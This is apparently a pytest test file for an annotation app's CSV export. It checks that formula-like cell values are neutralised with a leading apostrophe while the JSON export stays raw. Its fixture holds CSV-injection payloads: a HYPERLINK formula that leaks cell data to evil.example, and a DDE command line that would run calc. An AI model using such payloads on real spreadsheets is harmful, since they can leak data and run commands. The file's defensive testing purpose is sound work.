import csv
import io
import json

import pytest

from app.core.article import Article
from app.core.csv_export import COLUMNS, neutralised
from app.core.digest import DigestScope
from app.services.annotating import AnnotationService
from app.services.exporting import ExportService
from app.services.importing import add_articles
from app.services.tagging import TagService

TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
NOTE = "=cmd|'/C calc'!A0"


@pytest.fixture
def hostile(empty_library):
    body = "Le texte dit -2+3 puis @SUM(A1:A9) et\tune tabulation, puis la fin de l’article."
    [stored] = add_articles(empty_library, [Article(title=TITLE, body=body, format="txt", language="fr",
                                                    source="+33 1 23 45 67 89", published="2024-01-24")])
    TagService(empty_library).create("@risque", colour="#123456")
    notes = AnnotationService(empty_library)
    start = body.index("-2+3")
    notes.add_highlight(article_id=stored.article_id, start=start, end=start + 4, tags=["@risque"], note=NOTE)
    start = body.index("@SUM")
    notes.add_highlight(article_id=stored.article_id, start=start, end=start + 11, note="\tcachée")
    return empty_library


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx"])
def test_text_a_spreadsheet_would_run_gets_a_leading_apostrophe(text):
    assert neutralised(text) == "'" + text


@pytest.mark.parametrize("text", ["", "1+1", "a=b", " =1", "'=1", "Commission européenne"])
def test_other_text_is_left_as_it_is(text):
    assert neutralised(text) == text


def test_no_csv_cell_starts_a_formula_and_the_json_keeps_the_raw_text(hostile):
    text = ExportService(hostile).render(DigestScope(), format="csv")
    rows = [dict(zip(COLUMNS, row)) for row in list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))[1:]]
    assert len(rows) == 2
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    first, second = rows
    assert first["article_title"] == "'" + TITLE and first["source"] == "'+33 1 23 45 67 89"
    assert (first["tag"], first["quote"], first["note"]) == ("'@risque", "'-2+3", "'" + NOTE)
    assert (second["quote"], second["note"]) == ("'@SUM(A1:A9)", "'\tcachée")
    document = json.loads(ExportService(hostile).render(DigestScope(), format="json"))
    items = document["first"]["items"]
    assert items[0]["target"]["source"]["title"] == TITLE
    assert items[0]["target"]["selector"][0]["exact"] == "-2+3"
    assert [b["value"] for b in items[0]["body"]] == ["@risque", NOTE]
